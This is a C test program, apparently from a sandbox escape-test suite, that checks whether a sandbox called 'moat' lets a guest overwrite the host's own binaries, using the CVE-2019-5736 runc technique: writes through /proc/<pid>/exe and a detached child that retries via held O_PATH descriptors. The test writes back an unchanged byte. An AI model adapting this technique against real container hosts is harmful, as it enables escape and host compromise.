/* proc_exe_write: overwrite the sandbox's own binaries (CVE-2019-5736).
 *
 * runc was overwritten from inside its container: the attacker opened
 * /proc/<runc pid>/exe with O_PATH while runc ran (a write gives ETXTBSY
 * then), and a lingering process reopened it for writing through
 * /proc/self/fd/N as soon as runc had exited.  This attack looks for moat
 * and moat-gofer (paths in ESCAPE_MOAT_BIN, host identities in
 * ESCAPE_HOST_IDS moat0, moat1, ...) by path and as the /proc/<pid>/exe of
 * every task it can see, ancestors first.  Each one it finds it opens for
 * writing and writes back the byte at offset 0, so the file stays the same
 * while its mtime moves; the harness watches that mtime.  For binaries that
 * are busy it leaves a detached child that retries for 3 s after we exit
 * (the harness waits for it, @linger): moat must not let a guest task
 * outlive the sandbox, nor reach its binaries.  Natively the "moat" and
 * "moat-gofer" are decoys, copies of timeout(1): the harness runs us under
 * the first and keeps the second running beside us.
 *
 * @class files
 * @native decoy-parent
 * @linger 4
 */
#include "common.h"
#include <sys/prctl.h>

#define MAX_BUSY 16

static int last_err = ENOENT;
static int busy[MAX_BUSY], nbusy;

/* Is ST one of the moat binaries of the host? */
static bool
is_moat(const struct stat *st)
{
	char key[16];

	for (int i = 0; i < 8; i++) {
		snprintf(key, sizeof key, "moat%d", i);
		if (is_host_object(st, key))
			return true;
	}
	return false;
}

/* Open PATH read-write; if it is a host moat binary, rewrite byte 0. */
static bool
rewrite(const char *path)
{
	struct stat st;
	unsigned char b;
	int fd = open(path, O_RDWR | O_CLOEXEC);

	if (fd < 0) {
		last_err = errno;
		return false;
	}
	if (fstat(fd, &st) == 0 && is_moat(&st) && pread(fd, &b, 1, 0) == 1 &&
	    pwrite(fd, &b, 1, 0) == 1) {
		close(fd);
		return true;
	}
	last_err = EXDEV; /* writable, but only a copy */
	close(fd);
	return false;
}

static void
attempt(const char *path)
{
	if (rewrite(path))
		escaped("opened %s for writing and rewrote a byte of a host "
			"moat binary", path);
	if (last_err == ETXTBSY && nbusy < MAX_BUSY) {
		int fd = open(path, O_PATH | O_CLOEXEC);

		if (fd >= 0)
			busy[nbusy++] = fd;
	}
}

/* Only a task running a moat binary is worth a write: the native run must
 * not open every host binary for writing. */
static bool
try_pid(pid_t pid, void *arg)
{
	char path[64];
	struct stat st;

	(void)arg;
	snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
	if (stat(path, &st) == 0 && is_moat(&st))
		attempt(path);
	return false;
}

/* A detached grandchild that keeps the O_PATH fds and retries the write
 * once the binaries have stopped running. */
static void
linger(void)
{
	pid_t pid = fork();

	if (pid != 0) {
		if (pid > 0)
			waitpid(pid, NULL, 0);
		return;
	}
	if (fork() != 0)
		_exit(0);
	setsid();
	prctl(PR_SET_NAME, "moat-escape-lingerer");
	/* Let go of the harness's pipes, or it would wait for us. */
	for (int fd = 0; fd <= 2; fd++)
		close(fd);
	for (double end = now_s() + 3.0; now_s() < end;) {
		for (int i = 0; i < nbusy; i++) {
			char path[64];

			snprintf(path, sizeof path, "/proc/self/fd/%d",
				 busy[i]);
			if (rewrite(path))
				_exit(0);
		}
		usleep(10000);
	}
	_exit(0);
}

int
main(void)
{
	char bins[PATH_MAX * 2];
	pid_t p = getppid();

	for (int depth = 0; p > 0 && depth < 16; depth++) {
		try_pid(p, NULL);
		p = parent_of(p);
	}
	for_each_pid(try_pid, NULL);
	snprintf(bins, sizeof bins, "%s", env_need("ESCAPE_MOAT_BIN"));
	for (char *s = strtok(bins, ":"); s; s = strtok(NULL, ":"))
		attempt(s);
	if (nbusy) {
		linger();
		contained("%d moat binar%s busy (ETXTBSY); a detached task "
			  "retries for 3 s after we exit, the harness judges",
			  nbusy, nbusy == 1 ? "y is" : "ies are");
	}
	contained("no host moat binary writable: %s",
		  last_err == EXDEV ? "only copies were writable"
				    : errname(last_err));
}
